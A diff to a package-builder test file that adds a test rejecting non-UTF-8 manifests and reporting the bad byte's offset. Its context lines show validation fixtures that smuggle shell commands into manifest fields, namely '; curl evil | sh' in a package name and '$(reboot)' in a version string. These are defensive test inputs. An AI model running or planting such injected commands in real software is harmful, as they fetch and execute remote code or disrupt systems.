@@ -90,6 +90,23 @@ describe("package files the builder reads", () => {
     },
   );
 
+  it("refuses a manifest that is not UTF-8, naming the byte offset, instead of reading U+FFFD", async () => {
+    const root = makeWorkspace({ [A]: {} });
+    const text = JSON.stringify(manifestFor("a-fix"));
+    const at = text.indexOf('"description":"') + '"description":"'.length;
+    const bytes = Buffer.concat([
+      Buffer.from(text.slice(0, at)),
+      Buffer.from([0xff]),
+      Buffer.from(text.slice(at)),
+    ]);
+    writeFileSync(join(root, A, "manifest.json"), bytes);
+    expect(await problemsOf(root)).toContainEqual({
+      file: `${A}/manifest.json`,
+      pointer: "",
+      message: `manifest file is not valid UTF-8 (the first bad byte is at offset ${at}): save it as UTF-8`,
+    });
+  });
+
   it.each([
     [{ name: "@test/a-fix; curl evil | sh" }, "/name", /must be an npm package name/],
     [{ version: "1.0.0$(reboot)" }, "/version", /must be a semantic version/],
